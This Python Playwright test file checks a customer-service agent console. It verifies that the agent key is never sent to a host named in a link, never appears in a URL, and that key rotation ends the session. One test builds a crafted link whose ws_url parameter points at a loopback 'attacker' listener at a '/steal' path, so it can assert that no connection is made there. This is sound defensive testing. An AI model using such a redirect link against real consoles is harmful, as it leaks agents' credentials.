"""The agent console's connection, in Chromium against the whole local engine (issue 11):

- it connects only where its own origin's config.json says, whatever a link's ``?ws_url=`` says;
- the agent key is never in a URL (it travels as the WebSocket subprotocol ``kefu.key.…``);
- rotating the agent's key closes the console (``session.ended``), which then asks for the new key
  instead of reconnecting with the old one.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, expect

pytestmark = pytest.mark.browser

TIMEOUT_MS = 30_000


class Listener:
    """An attacker's server on loopback: counts every connection made to it."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.requests: list[bytes] = []
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                client, _ = self.server.accept()
            except OSError:
                return
            with client:
                client.settimeout(2)
                try:
                    self.requests.append(client.recv(4096))
                except OSError:
                    self.requests.append(b"")

    def close(self) -> None:
        self.server.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    attacker = Listener()
    yield attacker
    attacker.close()


def test_a_crafted_link_cannot_send_the_agent_key_elsewhere(
    browser: Browser, stack: dict[str, Any], listener: Listener
) -> None:
    agent = stack["agents"][0]
    context = browser.new_context()
    try:
        page = context.new_page()
        opened: list[str] = []
        page.on("websocket", lambda ws: opened.append(ws.url))
        crafted = f"{stack['console_url']}?ws_url=ws://127.0.0.1:{listener.port}/steal"
        page.goto(crafted)
        expect(page.locator("#login-ws")).to_have_text(stack["ws_url"], timeout=TIMEOUT_MS)
        page.locator("#login-key").fill(agent["agent_key"])
        page.locator("#login-form button").click()
        expect(page.locator("#me-name")).to_have_text(agent["name"], timeout=TIMEOUT_MS)

        # A fresh tab opened from the same link shows the configured server, not the link's.
        fresh = context.new_page()
        fresh.goto(crafted)
        expect(fresh.locator("#login-ws")).to_have_text(stack["ws_url"], timeout=TIMEOUT_MS)
        expect(fresh.locator("#login")).to_be_visible()
        page.wait_for_timeout(1000)

        assert listener.requests == []
        assert opened and all(url.startswith(stack["ws_url"]) for url in opened)
        secret = agent["agent_key"].partition(".")[2]
        assert not [url for url in opened if secret in url]
    finally:
        context.close()


def test_rotating_the_key_logs_the_console_out(browser: Browser, stack: dict[str, Any]) -> None:
    agent = stack["agents"][1]
    context = browser.new_context()
    try:
        page = context.new_page()
        opened: list[str] = []
        page.on("websocket", lambda ws: opened.append(ws.url))
        page.goto(stack["console_url"])
        page.locator("#login-key").fill(agent["agent_key"])
        page.locator("#login-form button").click()
        expect(page.locator("#me-name")).to_have_text(agent["name"], timeout=TIMEOUT_MS)

        rotated = httpx.post(
            f"{stack['admin_url']}/v1/tenants/{stack['tenant_id']}/agents/{agent['agent_id']}/key",
            headers={"Authorization": f"Bearer {stack['admin_key']}"},
            timeout=30,
        )
        assert rotated.status_code == 200

        expect(page.locator("#login")).to_be_visible(timeout=TIMEOUT_MS)
        expect(page.locator("#login-error")).to_contain_text("key was changed", timeout=TIMEOUT_MS)
        page.wait_for_timeout(3000)
        assert len(opened) == 1  # told why it was closed: no reconnecting with the old key

        page.locator("#login-key").fill(rotated.json()["agentKey"])
        page.locator("#login-form button").click()
        expect(page.locator("#me-name")).to_have_text(agent["name"], timeout=TIMEOUT_MS)
    finally:
        context.close()


def test_the_widget_reports_the_page_without_its_query_or_fragment(browser: Browser, stack: dict[str, Any]) -> None:
    context = browser.new_context()
    try:
        page = context.new_page()
        opened: list[str] = []
        page.on("websocket", lambda ws: opened.append(ws.url))
        page.goto(f"{stack['demo_url']}?order=1042&token=s3cret#card")
        page.locator("#kefu-widget .bubble").click()
        expect(page.locator("#kefu-widget textarea")).to_be_visible(timeout=TIMEOUT_MS)
        page.wait_for_timeout(500)
        assert opened
        reported = {httpx.URL(url).params.get("page") for url in opened}
        assert reported == {stack["demo_url"]}
    finally:
        context.close()
